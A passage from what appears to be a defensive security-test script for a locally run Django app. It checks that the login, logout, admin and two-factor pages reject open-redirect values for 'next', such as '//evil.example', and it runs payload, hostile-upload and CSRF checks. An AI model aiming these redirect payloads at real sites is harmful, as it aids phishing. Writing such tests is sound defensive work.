        # The admin's login page.
        answer = Client(base).get(reverse("admin:login") + f"?next={quote(value, safe='')}")
        check("admin login page", reverse("admin:login"), answer, value)
    # Two-factor: a session owing a code; `next` on the verify page, and on its POST with a
    # wrong code (four: a fifth would lock the account) and with the right one (a fresh 30 s
    # step each, so three).
    verify = reverse("two_factor_verify")
    owing = Client(base)
    owing.get(login)
    owing.submit(login, {"username": "uzb-coordinator", "password": "demo-pass-2018"})
    for number, value in enumerate(REDIRECTS):
        answer = owing.get(f"{verify}?next={quote(value, safe='')}")
        check("two-factor verify page", verify, answer, value)
        if number < 4:
            answer = owing.submit(verify, {"code": "000000", "next": value})
            check("two-factor verify (wrong code)", verify, answer, value)
    for value in ["//evil.example", "/\\evil.example", "https:evil.example"]:
        fresh = Client(base)
        fresh.get(login)
        fresh.submit(login, {"username": "kgz-coordinator", "password": "demo-pass-2018"})
        time.sleep(31 - time.time() % 30)  # a fresh step: the code must not be spent
        code = f"{totp(b32decode(DEMO_TWO_FACTOR_SECRET)):06d}"
        answer = fresh.submit(verify, {"code": code, "next": value})
        check("two-factor verify (right code)", verify, answer, value)
        answer = fresh.get(answer.location) if answer.status == 200 else answer
    answer = Client(base).get("/i18n/setlang/")
    rows.append(("language switch /i18n/setlang/", answer.status))
    print("| redirect endpoint | variants | answers checked |")
    print("|---|---:|---:|")
    print(f"| login page, login POST, logout POST (body and query), admin login page "
          f"| {len(REDIRECTS)} | {len(REDIRECTS) * 5} |")  # fmt: skip
    print(f"| two-factor verify page, and its POST with a wrong code | {len(REDIRECTS)} | "
          f"{len(REDIRECTS) + 4} |")  # fmt: skip
    print("| two-factor verify with the right code | 3 | 3 |")
    for what, status in rows:
        print(f"| {what} | not routed: {status} | |")
    print()
    log("  redirects checked")


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--base", default="http://127.0.0.1:8000")
    parser.add_argument("--focal", default="kaz-focal")
    parser.add_argument(
        "--only", choices=["payloads", "uploads", "csrf", "redirects"], action="append"
    )
    args = parser.parse_args()
    log = lambda text: print(text, file=sys.stderr, flush=True)  # noqa: E731
    parts = args.only or ["payloads", "uploads", "csrf", "redirects"]
    findings = Findings()
    if "payloads" in parts:
        payloads(args.base, args.focal, findings, log)
    if "uploads" in parts:
        hostile_uploads(args.base, args.focal, findings, log)
    if "csrf" in parts:
        csrf(args.base, args.focal, findings, log)
    if "redirects" in parts:
        redirects(args.base, findings, log)
    for part, counts in findings.counts.items():
        print(f"{part}: " + ", ".join(f"{what} {n}" for what, n in counts.items()))
    print(f"Findings: {len(findings.items)}")
    for item in findings.items:
        print(f"  {item}")
    return 1 if findings.items else 0


if __name__ == "__main__":
    sys.exit(main())
